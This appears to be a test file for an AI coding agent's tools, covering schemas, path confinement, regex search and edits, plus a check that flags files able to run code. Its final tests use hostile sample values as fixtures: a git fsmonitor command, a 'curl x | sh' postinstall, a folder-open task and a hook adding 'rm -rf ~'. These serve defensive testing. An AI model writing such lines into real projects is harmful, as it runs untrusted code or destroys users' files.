import { strict as assert } from 'node:assert';
import * as nodePath from 'node:path';
import { Worker } from 'node:worker_threads';
import { estimateTokens } from '../../../src/core/chat/contextBudget';
import { changeTools, commandReport } from '../../../src/core/tools/changeTools';
import { agentSystemPrompt, changeToolDefinitions, readToolDefinitions } from '../../../src/core/tools/definitions';
import { readTools } from '../../../src/core/tools/readTools';
import { compactDiff, contentPreview, maxPreviewChars, truncateResult } from '../../../src/core/tools/resultText';
import { collectMatches, lineMatcher } from '../../../src/core/tools/textSearch';
import { ToolError, ToolSession, type ChangeTool, type ReadTool, type ToolContext } from '../../../src/core/tools/toolTypes';
import { checkArguments } from '../../../src/core/tools/validateArgs';
import { sensitivePathReason } from '../../../src/core/tools/sensitivePaths';
import { resolveWorkspacePath } from '../../../src/core/tools/workspacePaths';
import type { TextMatch } from '../../../src/core/tools/workspacePort';
import { MemoryPort } from './memoryPort';

const posix = nodePath.posix;

function context(session = new ToolSession()): ToolContext {
  return { signal: new AbortController().signal, session };
}

function readTool(port: MemoryPort, name: string): ReadTool {
  const found = readTools(port).find((tool) => tool.definition.name === name);
  assert.ok(found, name);
  return found;
}

function changeTool(port: MemoryPort, name: string): ChangeTool {
  const found = changeTools(port, { terminalTimeoutSeconds: 30 }).find((tool) => tool.definition.name === name);
  assert.ok(found, name);
  return found;
}

async function rejectsWith(work: Promise<unknown>, reason: ToolError['reason'], pattern: RegExp): Promise<void> {
  await assert.rejects(work, (error: unknown) => ToolError.is(error, reason) && pattern.test(error.message));
}

describe('agent tools: definitions', () => {
  const all = [...readToolDefinitions, ...changeToolDefinitions];

  it("use the spec's tool shape: object parameters, each property with type and description, required names that exist", () => {
    for (const definition of all) {
      const parameters = definition.parameters as { type: string; properties: Record<string, { type: string; description: string }>; required: string[] };
      assert.equal(parameters.type, 'object', definition.name);
      for (const [name, property] of Object.entries(parameters.properties)) {
        assert.ok(['string', 'integer', 'boolean'].includes(property.type), `${definition.name}.${name}`);
        assert.ok(property.description.length > 0, `${definition.name}.${name} has a description`);
      }
      for (const name of parameters.required) assert.ok(name in parameters.properties, `${definition.name} requires ${name}`);
      assert.match(definition.name, /^[a-z_]+$/);
    }
  });

  it('stay lean: all eleven schemas and the system prompt under 1,000 tokens', () => {
    const tokens =
      estimateTokens(JSON.stringify(all.map((definition) => ({ type: 'function', function: definition })))) + estimateTokens(agentSystemPrompt(true));
    assert.ok(tokens < 1000, `${tokens} tokens`);
    assert.equal(all.length, 11);
  });
});

describe('agent tools: argument check', () => {
  const readFile = readToolDefinitions[0];
  assert.ok(readFile);

  it('accepts valid arguments, an empty string as {}, and null for an optional argument', () => {
    assert.deepEqual(checkArguments(readFile, '{"path":"a.ts","start_line":2}'), { ok: true, args: { path: 'a.ts', start_line: 2 } });
    assert.deepEqual(checkArguments(readToolDefinitions[7] ?? readFile, ''), { ok: true, args: {} });
    assert.deepEqual(checkArguments(readFile, '{"path":"a.ts","end_line":null}'), { ok: true, args: { path: 'a.ts' } });
  });

  it('says what is wrong in words the model can act on', () => {
    const problem = (text: string): string => {
      const check = checkArguments(readFile, text);
      return check.ok ? '' : check.problem;
    };
    assert.match(problem('{"path": "a'), /not valid JSON/);
    assert.match(problem('[1]'), /must be a JSON object, not array/);
    assert.match(problem('{}'), /"path" is required/);
    assert.match(problem('{"path":"a","start_line":1.5}'), /"start_line" must be integer, not number/);
    assert.match(problem('{"path":"a","startLine":1}'), /"startLine" is not an argument of read_file \(it takes "path", "start_line", "end_line"\)/);
  });
});

describe('agent tools: workspace paths', () => {
  const folders = [{ name: 'app', fsPath: '/work/app' }];
  const multi = [...folders, { name: 'lib', fsPath: '/work/lib' }];

  it('resolves relative and absolute paths inside the folders', () => {
    assert.deepEqual(resolveWorkspacePath('src/a.ts', folders, posix), { folder: folders[0], absolute: '/work/app/src/a.ts', display: 'src/a.ts' });
    assert.equal(resolveWorkspacePath('./src/../README.md', folders, posix).display, 'README.md');
    assert.equal(resolveWorkspacePath('.', folders, posix).display, '');
    assert.equal(resolveWorkspacePath('/work/app/x.ts', folders, posix).display, 'x.ts');
    assert.equal(resolveWorkspacePath('..weird/name', folders, posix).display, '..weird/name');
  });

  it('names the folder first in a multi-root workspace', () => {
    assert.equal(resolveWorkspacePath('lib/index.ts', multi, posix).absolute, '/work/lib/index.ts');
    assert.equal(resolveWorkspacePath('lib/index.ts', multi, posix).display, 'lib/index.ts');
    assert.equal(resolveWorkspacePath('src/a.ts', multi, posix).display, 'app/src/a.ts');
    assert.equal(resolveWorkspacePath('/work/lib/x', multi, posix).display, 'lib/x');
  });

  it('refuses everything outside the folders, and any path without a folder', () => {
    for (const path of ['../secret', 'src/../../secret', '/etc/passwd', '/work/application/x', '/work']) {
      assert.throws(
        () => resolveWorkspacePath(path, folders, posix),
        (error: unknown) => ToolError.is(error, 'outsideWorkspace'),
        path,
      );
    }
    assert.throws(
      () => resolveWorkspacePath('a.ts', [], posix),
      (error: unknown) => ToolError.is(error, 'outsideWorkspace'),
    );
  });
});

describe('agent tools: text search and results', () => {
  it('matches with smart case, as a regex when asked, and reports more past the limit', () => {
    const out: TextMatch[] = [];
    assert.equal(collectMatches('a.ts', 'Alpha\nalpha\nBETA\r\nbeta', lineMatcher({ text: 'alpha', isRegex: false }), 10, out), true);
    assert.deepEqual(
      out.map((match) => [match.line, match.text]),
      [
        [1, 'Alpha'],
        [2, 'alpha'],
      ],
    );
    assert.equal(lineMatcher({ text: 'Alpha', isRegex: false })('alpha'), false);
    assert.equal(lineMatcher({ text: '^be.a$', isRegex: true })('BETA'), true);
    const few: TextMatch[] = [];
    assert.equal(collectMatches('b.ts', 'x\nx\nx', lineMatcher({ text: 'x', isRegex: false }), 2, few), false);
    assert.equal(few.length, 2);
    assert.equal(collectMatches('c.bin', 'x\u0000x', lineMatcher({ text: 'x', isRegex: false }), 10, []), true);
  });

  describe('a regular expression from the model', () => {
    let worker: Worker | undefined;
    afterEach(async () => {
      await worker?.terminate();
      worker = undefined;
    });

    it('runs in linear time: catastrophic patterns on long lines answer at once instead of freezing the extension host', async () => {
      // In a worker, so that a backtracking engine (V8's, used before) hangs only the worker, and the
      // test fails on mocha's timeout instead of blocking the run: ^(a+)+$ took 5 s at 28 characters,
      // doubling with each one; these lines are thousands long.
      const source = `
        const { parentPort, workerData } = require('node:worker_threads');
        const { lineMatcher } = require(workerData.module);
        const long = 'a'.repeat(5000);
        const results = [
          lineMatcher({ text: '^(a+)+$', isRegex: true })(long + 'b'),
          lineMatcher({ text: '(a|aa)*c', isRegex: true })(long),
          lineMatcher({ text: '^(\\w+\\s?)*$', isRegex: true })('word '.repeat(2000) + '!'),
          lineMatcher({ text: '^(a+)+$', isRegex: true })(long),
        ];
        parentPort.postMessage(results);`;
      worker = new Worker(source, { eval: true, workerData: { module: nodePath.join(__dirname, '../../../src/core/tools/textSearch.js') } });
      const results = await new Promise<unknown>((resolve, reject) => {
        worker?.once('message', resolve);
        worker?.once('error', reject);
      });
      assert.deepEqual(results, [false, false, false, true]);
    });
  });

  it('cuts a long result at a line and says how much was left out', () => {
    const text = Array.from({ length: 100 }, (_, index) => `line ${index}`).join('\n');
    assert.equal(truncateResult(text, 10_000), text);
    const cut = truncateResult(text, 100);
    assert.ok(cut.length < 500);
    assert.match(cut, /^line 0\nline 1\n/);
    assert.match(cut, /\[Cut to fit the context: \d+ of 100 lines \(\d+ characters, about \d+ tokens\) were left out\. Ask for less/);
  });

  it('shows a replaced region as a compact diff with context', () => {
    const before = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'].join('\n');
    const after = before.replace('e', 'E1\nE2');
    assert.equal(compactDiff(before, after), '@@ -2,7 +2,8 @@\n b\n c\n d\n-e\n+E1\n+E2\n f\n g\n h');
    assert.equal(compactDiff('x', 'x'), '(no change)');
  });

  it("a new file's card shows its head, cut at a line end, and says how many lines and characters it leaves out", () => {
    const lines = Array.from({ length: 3000 }, (_, i) => `line ${String(i).padStart(4, '0')} of the generated file`);
    const content = `${lines.join('\n')}\n`;
    const { text, omitted } = contentPreview(content);
    assert.ok(text.length <= maxPreviewChars && text.endsWith('\n'), 'cut at a line end within the limit');
    const shownLines = text.split('\n').length - 1;
    assert.deepEqual(omitted, { lines: 3000 - shownLines, characters: content.length - text.length });
    assert.equal(text + content.slice(text.length), content);
    // A short file is shown whole, with nothing said; one endless line is cut at the limit.
    assert.deepEqual(contentPreview('export {};\n'), { text: 'export {};\n' });
    const oneLine = contentPreview('x'.repeat(50_000));
    assert.equal(oneLine.text.length, maxPreviewChars);
    assert.deepEqual(oneLine.omitted, { lines: 1, characters: 30_000 });
  });
});

describe('agent tools: reading functions', () => {
  const files = { 'src/a.ts': 'one\ntwo\nthree\n', 'src/deep/b.ts': 'export function b() {}\n', 'bin.dat': 'a\u0000b', 'empty.txt': '' };

  it('read_file gives a header and the lines asked for, and refuses binary files and ranges past the end', async () => {
    const port = new MemoryPort(files);
    const read = readTool(port, 'read_file');
    assert.equal(await read.run({ path: 'src/a.ts' }, context()), 'src/a.ts (3 lines)\none\ntwo\nthree');
    assert.equal(await read.run({ path: 'src/a.ts', start_line: 2, end_line: 9 }, context()), 'src/a.ts (lines 2-3 of 3)\ntwo\nthree');
    assert.equal(await read.run({ path: 'empty.txt' }, context()), 'empty.txt is empty.');
    await rejectsWith(read.run({ path: 'bin.dat' }, context()), 'binary', /binary file/);
    await rejectsWith(read.run({ path: 'src/a.ts', start_line: 10 }, context()), 'invalid', /past the end of src\/a\.ts \(3 lines\)/);
  });

  it('list_directory, find_files, get_symbols, get_selection and semantic_search answer in plain lines', async () => {
    const port = new MemoryPort(files);
    assert.equal(await readTool(port, 'list_directory').run({ path: 'src' }, context()), 'src/ (2 entries)\ndeep/\na.ts');
    assert.equal(await readTool(port, 'find_files').run({ glob: '**/*.ts' }, context()), 'src/a.ts\nsrc/deep/b.ts');
    assert.equal(await readTool(port, 'find_files').run({ glob: '*.md' }, context()), 'No files match.');
    assert.equal(await readTool(port, 'get_symbols').run({ path: 'src/deep/b.ts' }, context()), 'src/deep/b.ts:\n  function b (lines 1-1)');
    assert.equal(
      await readTool(port, 'get_selection').run({}, context()),
      'Active editor: src/a.ts (typescript)\nSelection 1:1-1:5:\nthe \nOpen editors: src/a.ts',
    );
    assert.match(await readTool(port, 'semantic_search').run({ query: 'export' }, context()), /^\[1\] src\/deep\/b\.ts:1-2\nexport function b/);
    await rejectsWith(readTool(port, 'search_text').run({ query: '(', regex: true }, context()), 'invalid', /not a regular expression this search supports/);
    await rejectsWith(readTool(port, 'search_text').run({ query: '(a)\\1', regex: true }, context()), 'invalid', /RE2 syntax: no backreferences or lookaround/);
  });
});

describe('agent tools: changing functions', () => {
  it('edit_file prepares a unique replacement with its diff, and applies only the text that was shown', async () => {
    const port = new MemoryPort({ 'a.ts': 'const x = 1;\nconst y = 2;\n' });
    const edit = changeTool(port, 'edit_file');
    const prepared = await edit.prepare({ path: 'a.ts', old_text: 'const y = 2;', new_text: 'const y = 3;' }, context());
    assert.equal(prepared.preview.kind, 'edit');
    assert.equal(prepared.preview.kind === 'edit' ? prepared.preview.after : '', 'const x = 1;\nconst y = 3;\n');
    assert.equal(port.files.get('a.ts'), 'const x = 1;\nconst y = 2;\n', 'nothing changes before apply');
    assert.equal(await prepared.apply(new AbortController().signal), 'Edited a.ts at line 2: replaced 1 line(s) with 1 line(s).');
    assert.equal(port.files.get('a.ts'), 'const x = 1;\nconst y = 3;\n');
  });

  it('edit_file refuses text that is missing or not unique, and a file that changed since it was read', async () => {
    const port = new MemoryPort({ 'a.ts': 'x\nx\n' });
    const edit = changeTool(port, 'edit_file');
    await rejectsWith(edit.prepare({ path: 'a.ts', old_text: 'y', new_text: 'z' }, context()), 'notFound', /was not found in a\.ts/);
    await rejectsWith(edit.prepare({ path: 'a.ts', old_text: 'x', new_text: 'z' }, context()), 'invalid', /occurs 2 times/);
    await rejectsWith(edit.prepare({ path: 'a.ts', old_text: '', new_text: 'z' }, context()), 'invalid', /old_text is empty/);
    const session = new ToolSession();
    await readTool(port, 'read_file').run({ path: 'a.ts' }, context(session));
    port.files.set('a.ts', 'x\ny\n');
    await rejectsWith(edit.prepare({ path: 'a.ts', old_text: 'y', new_text: 'z' }, context(session)), 'changed', /changed since you read it/);
    const prepared = await edit.prepare({ path: 'a.ts', old_text: 'y', new_text: 'z' }, context());
    port.files.set('a.ts', 'x\ny\n\n');
    await rejectsWith(prepared.apply(new AbortController().signal), 'changed', /changed after the edit was proposed/);
  });

  it('edit_file keeps Windows line endings', async () => {
    const port = new MemoryPort({ 'w.txt': 'a\r\nb\r\nc\r\n' });
    const prepared = await changeTool(port, 'edit_file').prepare({ path: 'w.txt', old_text: 'a\nb', new_text: 'A\nB' }, context());
    await prepared.apply(new AbortController().signal);
    assert.equal(port.files.get('w.txt'), 'A\r\nB\r\nc\r\n');
  });

  it('create_file never overwrites; run_in_terminal shows the command in full and reports how it ended', async () => {
    const port = new MemoryPort({ 'a.ts': 'x' });
    await rejectsWith(changeTool(port, 'create_file').prepare({ path: 'a.ts', content: 'y' }, context()), 'exists', /already exists/);
    const created = await changeTool(port, 'create_file').prepare({ path: 'new/b.ts', content: 'b\n' }, context());
    assert.deepEqual(created.preview, { kind: 'create', path: 'new/b.ts', content: 'b\n' });
    assert.equal(await created.apply(new AbortController().signal), 'Created new/b.ts (2 lines).');
    const command = 'npm test -- --grep "a b" && echo done';
    const run = await changeTool(port, 'run_in_terminal').prepare({ command, cwd: 'src' }, context());
    assert.deepEqual(run.preview, { kind: 'terminal', command, cwd: 'src', timeoutSeconds: 30 });
    assert.equal(await run.apply(new AbortController().signal), `$ ${command}\nExit code 0.\nok`);
    assert.deepEqual(port.commands, [{ command, cwd: 'src' }]);
    assert.equal(
      commandReport('sleep 9', { exitCode: null, output: 'partial', timedOut: true, droppedChars: 1200 }, 5),
      '$ sleep 9\nStopped after 5 s (the time limit).\npartial\n[1,200 more characters of output were not kept.]',
    );
  });
});

describe('agent tools: files that can run code or change the editor', () => {
  it('names git, editor, hook, dev container and package-script files, whatever the case or a multi-root prefix, and no ordinary file', () => {
    const sensitive = [
      '.git/config',
      '.git/hooks/pre-commit',
      'app/.git/config',
      'root-a/.GIT/hooks/post-checkout',
      '.git./config',
      '.gitmodules',
      '.gitattributes',
      '.husky/pre-commit',
      '.githooks/pre-push',
      '.vscode/tasks.json',
      '.vscode/settings.json',
      '.vscode/launch.json',
      '.vscode/extensions.json',
      'team.code-workspace',
      '.devcontainer/devcontainer.json',
      'package.json',
      'packages/web/package.json',
      '.npmrc',
      '.yarnrc.yml',
      'pyproject.toml',
      'setup.py',
      'Makefile',
      'Cargo.toml',
      'build.rs',
      'pom.xml',
      'build.gradle.kts',
      'Gemfile',
      'composer.json',
      '.envrc',
      '.pre-commit-config.yaml',
      'src\\.vscode\\settings.json',
      '.git:stream/config',
    ];
    for (const path of sensitive) assert.ok(sensitivePathReason(path), path);
    const ordinary = [
      'src/greeting.ts',
      'README.md',
      'docs/git.md',
      'src/gitignore.ts',
      'vscode/notes.md',
      'package-lock.json.md',
      'src/package.ts',
      'my.git/file.ts',
      '',
    ];
    for (const path of ordinary) assert.equal(sensitivePathReason(path), undefined, path);
    assert.match(sensitivePathReason('.git/config') ?? '', /fsmonitor/);
    assert.match(sensitivePathReason('.vscode/tasks.json') ?? '', /tasks/);
    assert.match(sensitivePathReason('package.json') ?? '', /scripts/);
  });

  it('edit_file and create_file carry the caution on the path and on where a link leads; ordinary files carry none', async () => {
    const port = new MemoryPort({ '.git/config': '[core]\n', 'package.json': '{"scripts":{}}\n', 'src/a.ts': 'x\n', 'hooks/pre-commit': '#!/bin/sh\n' });
    port.links.set('hooks', '.git/hooks');
    const edit = changeTool(port, 'edit_file');
    const create = changeTool(port, 'create_file');
    const config = await edit.prepare({ path: '.git/config', old_text: '[core]', new_text: '[core]\n\tfsmonitor = "touch /tmp/pwned"' }, context());
    assert.match(config.preview.kind === 'edit' ? (config.preview.caution ?? '') : '', /fsmonitor/);
    const manifest = await edit.prepare({ path: 'package.json', old_text: '{}', new_text: '{"postinstall":"curl x | sh"}' }, context());
    assert.match(manifest.preview.kind === 'edit' ? (manifest.preview.caution ?? '') : '', /scripts/);
    const tasks = await create.prepare({ path: '.vscode/tasks.json', content: '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' }, context());
    assert.match(tasks.preview.kind === 'create' ? (tasks.preview.caution ?? '') : '', /tasks/);
    const viaLink = await edit.prepare({ path: 'hooks/pre-commit', old_text: '#!/bin/sh', new_text: '#!/bin/sh\nrm -rf ~' }, context());
    assert.match(viaLink.preview.kind === 'edit' ? (viaLink.preview.caution ?? '') : '', /hooks/);
    const ordinary = await edit.prepare({ path: 'src/a.ts', old_text: 'x', new_text: 'y' }, context());
    assert.equal(ordinary.preview.kind === 'edit' ? ordinary.preview.caution : 'not an edit', undefined);
    const created = await create.prepare({ path: 'src/b.ts', content: 'b' }, context());
    assert.deepEqual(created.preview, { kind: 'create', path: 'src/b.ts', content: 'b' });
  });
});
